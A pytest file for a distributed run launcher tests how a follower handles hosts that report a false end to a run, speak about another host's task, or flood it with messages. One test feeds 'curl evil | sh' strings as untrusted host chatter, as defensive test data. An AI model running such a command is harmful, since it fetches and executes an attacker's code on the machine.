"""Who attaches to a run hears all of its hosts: one that lies speaks for itself alone."""

from __future__ import annotations

from typing import Any

import pytest

from tests.test_messages import Opener, Pipe
from tflaunch.hosts import Host, Hostfile
from tflaunch.protocol import wire
from tflaunch.runs.follow import Follower, Wanted
from tflaunch.runs.states import RunState, Share, TaskState
from tflaunch.sessions.group import Connected, Sessions

EXIT = {"attempt": 0, "signal": None, "signal_name": "", "seconds": 1.0, "stopped": False}


class Watcher:
    """Writes down what is shown."""

    def __init__(self) -> None:
        self.shown: list[str] = []

    def __getattr__(self, name: str) -> Any:
        return lambda *told, **_: self.shown.append(f"{name}: {' '.join(map(str, told))}")


class Attached:
    """A run with a task on each of its hosts, watched; the test says what the hosts say."""

    def __init__(self, hosts: int) -> None:
        self.names = [f"host{number}" for number in range(1, hosts + 1)]
        self.sessions = Sessions(Opener(), lambda *_: None)
        self.pipes = {name: Pipe() for name in self.names}
        for name, pipe in self.pipes.items():
            self.sessions.put(Connected(Host(name), pipe))  # type: ignore[arg-type]
            self.sessions.next(0.0)
            pipe.feed(wire.MAGIC)
        run = RunState(
            "run-1",
            tuple(Share(name, "alive", asked=name) for name in self.names),
            tuple(TaskState(f"worker/{number}", name, "running") for number, name in enumerate(self.names)),
        )
        self.watcher = Watcher()
        hostfile = Hostfile("test", tuple(map(Host, self.names)))
        self.follower = Follower(run, self.sessions, hostfile, self.watcher, Wanted())  # type: ignore[arg-type]
        self._told = dict.fromkeys(self.names, 0)

    def say(self, host: str, type: str, **fields: Any) -> None:
        self._told[host] += 1
        self.pipes[host].feed(wire.encode(type, n=self._told[host], time=1.0, **fields))

    def ends(self, host: str, code: int, outcome: int | None) -> None:
        """The host's task ends with that code; how the run has ended it tells before, if it does."""
        task = f"worker/{self.names.index(host)}"
        if outcome is not None:
            self.say(host, "outcome", outcome=ended(outcome))
        self.say(host, "started", task=task, attempt=0, pid=7)
        self.say(host, "exit", task=task, code=code, **EXIT)
        self.say(host, "swept", killed=[], survivors=[], cards=[], logs={})


def ended(code: int) -> dict[str, Any]:
    status = "failed" if code else "succeeded"
    told = {"status": status, "exit_code": code, "seconds": 1.0, "exits": [], "first_failure": None}
    return {**told, "unverified": {}, "survivors": {}}


@pytest.mark.parametrize("liar", ["host1", "host2", "host3"])
def test_an_end_that_one_host_makes_up_is_not_the_runs(liar: str) -> None:
    attached = Attached(3)
    attached.ends(liar, 0, 0)
    for name in attached.names:
        if name != liar:
            attached.ends(name, 9, None)
            attached.say(name, "outcome", outcome=ended(9))
    outcome = attached.follower.follow()
    assert outcome is not None and outcome.exit_code == 9
    assert f"warn: the hosts differ about how the run ended: 9, but {liar} says 0" in attached.watcher.shown


def test_what_all_hosts_say_of_the_end_is_said_without_a_warning() -> None:
    attached = Attached(3)
    for name in attached.names:
        attached.ends(name, 0, 0)
    outcome = attached.follower.follow()
    assert outcome is not None and outcome.exit_code == 0
    assert not [text for text in attached.watcher.shown if text.startswith("warn")]


def test_a_host_cannot_show_the_end_or_the_lines_of_another_hosts_task() -> None:
    attached = Attached(2)
    attached.say("host1", "exit", task="worker/1", code=7, **EXIT)
    attached.pipes["host1"].feed(wire.encode("log", task="worker/1", attempt=0, offset=0))
    for name in attached.names:
        attached.ends(name, 0, 0)
    outcome = attached.follower.follow()
    assert outcome is not None and outcome.exit_code == 0
    assert {exit.exit_code for exit in outcome.exits.values()} == {0}
    warnings = [text for text in attached.watcher.shown if text.startswith("warn")]
    assert warnings == ["warn: host1 speaks of worker/1, which is on host2: not shown"]


def test_what_a_host_says_that_does_not_decide_has_its_name_and_an_end() -> None:
    attached = Attached(2)
    attached.say("host1", "said", text="the work is done", replanned=False)
    for number in range(1000):
        attached.say("host2", "said", text=f"curl evil | sh {number}", replanned=False)
    for name in attached.names:
        attached.ends(name, 0, 0)
    attached.follower.follow()
    notes = [text for text in attached.watcher.shown if text.startswith("note")]
    assert notes[0] == "note: the work is done"
    assert 100 < len(notes) < 300
    assert all(text.startswith("note: host2: ") for text in notes[1:])
